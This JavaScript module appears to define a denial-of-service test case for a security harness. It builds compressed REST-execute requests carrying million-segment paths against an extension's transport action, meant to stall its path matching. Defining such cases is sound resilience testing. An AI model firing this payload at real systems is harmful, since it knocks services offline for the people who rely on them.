import { load } from '../harness/demo-actions.mjs';
import { compressedRequest, deflatedWithinRatio, MIB, V_2_19_0 } from '../harness/wire.mjs';

export const attack = {
  what: 'A stranger passes REST requests with paths of a million segments to an extension, compressed to 9 KB each.',
  like: 'regular expressions and routers that take long for long paths',
  victim: { role: 'extension' },
  prepare: async ({ folder }) => {
    const { encode } = await load(folder, 'index.js');
    const { extension } = await load(folder, 'actions.js');
    const path = '/a'.repeat(MIB);
    const fields = encode(extension.restExecute.request, { method: 'GET', uri: path, path, mediaType: null }, { version: V_2_19_0 });
    return compressedRequest(
      'internal:extensions/restexecuteonextensiontaction',
      deflatedWithinRatio(Buffer.concat([Buffer.of(0), fields])),
    );
  },
  run: (attacker, bytes) => attacker.askAgain(4, bytes),
};
